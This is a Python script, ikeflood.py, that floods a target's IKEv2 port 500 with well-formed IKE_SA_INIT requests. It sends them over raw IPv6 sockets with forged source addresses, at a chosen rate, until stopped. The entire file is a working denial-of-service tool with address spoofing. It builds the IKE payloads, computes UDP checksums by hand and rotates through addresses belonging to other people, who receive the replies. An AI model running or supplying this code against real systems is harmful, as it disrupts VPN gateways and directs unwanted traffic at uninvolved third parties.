# SPDX-License-Identifier: GPL-2.0
"""Begin IKEv2 exchanges with other people's addresses, and never go on with them.

ikeflood.py TARGET RATE ADDRESS...: well-formed requests of IKE_SA_INIT (RFC 7296, 1.2) to port 500
of TARGET, RATE in a second, from each ADDRESS in turn, until it is told to end; then it prints how
many they were. Answers go to whom the addresses belong: nobody sends a cookie back.
"""

import os
import signal
import socket
import struct
import sys
import time

PORT = 500
MODP_2048 = 14


def payload(following, body):
    """A payload behind its generic header."""
    return struct.pack('!BBH', following, 0, 4 + len(body)) + body


def transform(last, kind, number, attribute=b''):
    """A transform of a proposal."""
    return struct.pack('!BBHBBH', 0 if last else 3, 0, 8 + len(attribute), kind, 0,
                       number) + attribute


def request(spi):
    """IKE_SA_INIT for AES-128, HMAC-SHA-256 and the group of 2048 bits."""
    transforms = (transform(False, 1, 12, struct.pack('!HH', 0x800e, 128)) +
                  transform(False, 2, 5) + transform(False, 3, 12) +
                  transform(True, 4, MODP_2048))
    proposal = struct.pack('!BBHBBBB', 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
    body = (payload(34, proposal) +
            payload(40, struct.pack('!HH', MODP_2048, 0) + b'\x5a' + os.urandom(255)) +
            payload(0, os.urandom(32)))
    return spi + bytes(8) + struct.pack('!BBBBII', 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def checksum(data):
    """RFC 1071, of an even number of octets."""
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff or 0xffff


def packet(source, target, data):
    """UDP over IPv6, with whatever source."""
    length = 8 + len(data)
    udp = struct.pack('!HHHH', PORT, PORT, length, 0) + data
    pseudo = source + target + struct.pack('!II', length, socket.IPPROTO_UDP)
    summed = checksum(pseudo + udp + b'\0' * (length % 2))
    header = struct.pack('!IHBB', 6 << 28, length, socket.IPPROTO_UDP, 64) + source + target
    return header + udp[:6] + struct.pack('!H', summed) + udp[8:]


def main():
    """Flood until SIGTERM."""
    address, rate = sys.argv[1], float(sys.argv[2])
    target = socket.inet_pton(socket.AF_INET6, address)
    sources = [socket.inet_pton(socket.AF_INET6, word) for word in sys.argv[3:]]
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    sent = 0
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while not ended:
            data = packet(sources[sent % len(sources)], target, request(os.urandom(8)))
            sock.sendto(data, (address, 0))
            sent += 1
            time.sleep(1 / rate)
    print(sent)


main()
